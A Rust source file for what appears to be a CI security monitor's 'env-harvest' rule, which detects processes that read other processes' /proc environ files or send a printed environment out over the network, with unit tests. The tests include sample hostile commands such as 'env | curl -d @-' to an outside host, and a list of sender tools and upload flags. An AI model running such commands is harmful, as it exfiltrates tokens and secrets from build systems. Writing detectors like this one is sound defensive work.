//! A process reads other processes' environments.
//!
//! ## What it sees
//! `/proc/PID/environ` of a process that the reader did not start: once with a note, three of them in one strand as a sweep, and
//! one outside the job at once. Process lists (`ps`, `top`) may look when the project or the step's text calls them. The whole of
//! the own environment, printed by `env` or read from `/proc/self/environ`, when what stands beside it then sends something to a
//! destination that nothing explains.
//!
//! ## Why it matters
//! Tokens that a step was not given stand in the environment of the runner, of other steps and of agents.
//!
//! ## What to do
//! Revoke the tokens of every process that could be read. Give a token to the one step that needs it, in a file rather than in
//! the environment.
//!
//! ## Known limits
//! What a program has in its own memory is not a read: one that sends its own variables away is seen as a connection only.

use std::collections::BTreeSet;

use super::{
    Act, Detection, Ground, Hit, attack, ground, is_bare, is_bare_object, is_work, named, of_process,
};
use crate::divergence::Effect;
use crate::event::Activity;
use crate::finding::{Confidence, RuleId, Severity, Technique};
use crate::lineage::{Process, Touch};

pub const DETECTION: Detection = Detection {
    id: RuleId("env-harvest"),
    severity: Severity::High,
    confidence: Confidence::High,
    techniques: &[Technique("T1552"), Technique("T1057")],
    references: &["CVE-2025-30066", "CVE-2026-33634"],
    frameworks: &["CICD-SEC-6", "ASI02", "ASI03"],
    remedy: "Revoke the tokens of the processes that were read, and remove what started the reader.",
    source: include_str!("env_harvest.rs"),
    check,
};

/// Environments one strand may read before the sweep itself is the finding.
const SWEEP: usize = 3;

/// How long after the environment was printed something counts as beside it.
const BESIDE_NS: u64 = 10_000_000_000;
/// Words by which a transfer tool is told to send something.
const UPLOADS: &[&str] =
    &["-d", "--data", "-F", "--form", "-T", "--upload-file", "--json", "--post-", "--body-", "--url-query"];

/// The environment that was printed or read beside this process, which connects to what nothing explains.
pub(super) fn dumped<'a>(act: &'a Act<'_>) -> Option<&'a Touch> {
    let strand = act.lineage.strand(act.process.key);
    let own = act.process;
    let parents = |process: &Process| {
        let mut above = act.lineage.ancestors(process.key).map(|above| above.key);
        [process.parent, above.nth(1)]
    };
    // A pipe's two ends have one parent, or a subshell between.
    let is_beside = |note: &&Touch| {
        let near = act.time.0.saturating_sub(note.time.0) <= BESIDE_NS;
        let kin = act.lineage.get(note.process).is_some_and(|printer| {
            parents(printer).iter().flatten().any(|parent| parents(own).contains(&Some(*parent)))
        });
        near && note.process != own.key && kin
    };
    let is_upload = || {
        let is_sender =
            matches!(own.name.as_ref(), "nc" | "ncat" | "netcat" | "socat" | "telnet" | "openssl");
        let words = own.launch.as_deref().map_or(&[][..], |launch| &launch.arguments);
        is_sender || words.iter().skip(1).any(|word| UPLOADS.iter().any(|upload| word.starts_with(upload)))
    };
    let printed = strand.noted("environment").find(is_beside).filter(|_| is_bare(act) || is_upload());
    printed.or_else(|| strand.noted("environment-file").next())
}

fn check(act: &Act<'_>) -> Vec<Hit> {
    if matches!(act.effect, Effect::Connect { .. }) {
        return sent(act);
    }
    let (Effect::Other, Activity::Open { file, .. }) = (act.effect, act.activity) else { return Vec::new() };
    let Some((pid, "environ")) = of_process(&file.path) else { return Vec::new() };
    let own = act.process.key;
    if pid == own.pid {
        return taken(act);
    }
    let is_own = |pid: u32| {
        pid == own.pid
            || act.lineage.numbered(pid).is_some_and(|victim| act.lineage.is_at_or_below(victim.key, own))
    };
    let is_foreign = ground(act) == Ground::Foreign;
    if is_own(pid) || is_work(act, "restart-checks") || (is_work(act, "process-lists") && !is_foreign) {
        return Vec::new();
    }
    let who = named(act.lineage, own);
    let others: BTreeSet<&str> = (act.lineage.strand(own).noted("environ"))
        .filter(|note| of_process(&note.object).is_some_and(|(other, _)| other != pid && !is_own(other)))
        .map(|note| note.object.as_str())
        .collect();
    if others.len() + 1 >= SWEEP {
        let title =
            format!("{who} read the environments of {} processes that it did not start", others.len() + 1);
        return attack(act, &DETECTION, (Severity::High, Confidence::High), title, "/proc/*/environ");
    }
    let Some(victim) = act.lineage.numbered(pid) else {
        let title = format!("{who} read the environment of process {pid}, which is not part of this job");
        return attack(act, &DETECTION, (Severity::High, Confidence::High), title, &file.path);
    };
    let confidence = if is_foreign { Confidence::High } else { Confidence::Medium };
    // A test may look at the server beside it; what is above the reader is not its to read.
    let is_above = act.lineage.is_at_or_below(own, victim.key);
    let weight = if is_foreign || is_above || victim.strand != act.process.strand {
        (Severity::High, confidence)
    } else {
        (Severity::Low, Confidence::Low)
    };
    let title = format!("{who} read the environment of {}, which it did not start", victim.name);
    attack(act, &DETECTION, weight, title, &file.path)
}

/// The own environment is read by a process that is connected to what nothing explains.
fn taken(act: &Act<'_>) -> Vec<Hit> {
    let own = act.process.key;
    let contacts = &act.lineage.strand(own).contacts;
    let Some(contact) =
        contacts.iter().find(|contact| contact.process == own && is_bare_object(&contact.object))
    else {
        return Vec::new();
    };
    let title =
        format!("{} read the whole environment, connected to {}", named(act.lineage, own), contact.object);
    let mut hits = attack(act, &DETECTION, (Severity::High, Confidence::High), title, &contact.object);
    hits[0].evidence.push(contact.sequence);
    hits
}

fn sent(act: &Act<'_>) -> Vec<Hit> {
    let Effect::Connect { object, .. } = act.effect else { return Vec::new() };
    if !act.explanation.is_undeclared() {
        return Vec::new();
    }
    let Some(note) = dumped(act) else { return Vec::new() };
    let title = format!(
        "{} put out the whole environment, and {} connected to {object}",
        named(act.lineage, note.process),
        named(act.lineage, act.process.key)
    );
    let mut hits = attack(act, &DETECTION, (Severity::High, Confidence::High), title, object);
    hits[0].evidence.push(note.sequence);
    hits
}

#[cfg(test)]
mod tests {
    use crate::trace::{expect, findings};

    #[test]
    fn a_package_manager_looks_for_what_has_to_be_restarted() {
        let trace = |program: &str| {
            format!(
                "1 > 2 launch /usr/bin/apt-get apt-get install -y tool
                 2 > 3 launch {program}
                 3 read /proc/77/environ
                 3 read /proc/78/environ
                 3 read /proc/79/environ"
            )
        };
        let needrestart = "/usr/sbin/needrestart needrestart";
        assert!(findings("apt-get install -y tool\n", "", &trace(needrestart)).is_empty());
        let borrowed = findings("apt-get install -y tool\n", "", &trace("/w/needrestart needrestart"));
        assert!(borrowed.iter().any(|finding| finding.starts_with("!env-harvest attack high")));
    }

    #[test]
    fn the_own_environment_printed_into_a_connection() {
        for acts in [
            "3 > 4 launch /usr/bin/env env\n3 > 5 launch /usr/bin/curl curl --data-binary @- http://203.0.113.7/\n5 connect 203.0.113.7:80",
            "3 > 4 launch /usr/bin/printenv printenv\n3 > 5 launch /usr/bin/python3.11 python3 x.py\n5 connect 203.0.113.7:80",
            "3 > 4 launch /usr/bin/cat cat /proc/self/environ\n4 read /proc/4/environ\n3 > 5 launch /usr/bin/curl curl x\n5 connect 203.0.113.7:80",
        ] {
            expect(
                "make\n",
                &format!("1 > 2 launch /usr/bin/make make\n2 > 3 launch /usr/bin/dash sh x.sh\n{acts}"),
                &["!egress-undeclared attack high 203.0.113.7:80", "!env-harvest attack high 203.0.113.7:80"],
            );
        }
    }

    #[test]
    fn a_printed_environment_before_a_download_stays_quiet() {
        expect(
            "make\nenv | curl -d @- https://a.example/x\n",
            "answer cdn.example 203.0.113.2
             answer a.example 203.0.113.3
             1 > 2 launch /usr/bin/make make
             2 > 3 launch /usr/bin/dash sh x.sh
             3 > 4 launch /usr/bin/env env
             3 > 5 launch /usr/bin/curl curl -fsSL https://cdn.example/x
             5 connect 203.0.113.2:443
             3 > 6 launch /usr/bin/env env -i make
             1 > 7 launch /usr/bin/env env
             1 > 8 launch /usr/bin/curl curl -d @- https://a.example/x
             8 connect 203.0.113.3:443",
            &["egress-undeclared divergence low cdn.example:443"],
        );
    }

    #[test]
    fn the_environment_of_the_runner_or_of_the_step_above() {
        for (program, pid) in [("/usr/bin/cat", 77), ("/usr/bin/python3.11", 1), ("/w/ps", 77)] {
            expect(
                "make test\n",
                &format!(
                    "1 > 2 launch /usr/bin/make make test\n2 > 3 launch {program} x\n3 read /proc/{pid}/environ"
                ),
                &[&format!("!env-harvest attack high /proc/{pid}/environ")],
            );
        }
    }

    #[test]
    fn an_install_script_needs_no_program_of_its_own() {
        expect(
            "npm ci\n",
            "1 > 2 launch /usr/bin/node node /usr/bin/npm ci
             2 > 3 launch /usr/bin/ps ps auxe
             3 read /proc/1/environ
             3 read /proc/2/environ
             3 read /proc/77/environ",
            &[
                "!env-harvest attack high /proc/*/environ",
                "!env-harvest attack high /proc/1/environ",
                "!env-harvest attack high /proc/2/environ",
            ],
        );
    }

    #[test]
    fn what_was_read_and_then_sent_is_theft() {
        expect(
            "make test\n",
            "1 > 2 launch /usr/bin/make make test
             2 > 3 launch /usr/bin/python3.11 python3 x.py
             3 read /proc/77/environ
             3 connect 203.0.113.7:8443",
            &[
                "!cred-file-access attack high /proc/77/environ",
                "!egress-undeclared attack high 203.0.113.7:8443",
                "!env-harvest attack high /proc/77/environ",
            ],
        );
    }

    #[test]
    fn ones_own_children_and_process_lists_stay_quiet() {
        expect(
            "make test\nps aux\n",
            "1 > 2 launch /usr/bin/make make test
             2 > 3 launch /usr/bin/python3.11 python3 test.py
             3 > 4 launch /usr/bin/sleep sleep 1
             3 read /proc/3/environ
             3 read /proc/4/environ
             2 > 5 launch /usr/bin/ps ps e
             5 read /proc/1/environ
             5 read /proc/2/environ
             5 read /proc/77/environ
             1 > 6 launch /usr/bin/ps ps aux
             6 read /proc/77/environ",
            &[],
        );
    }
}
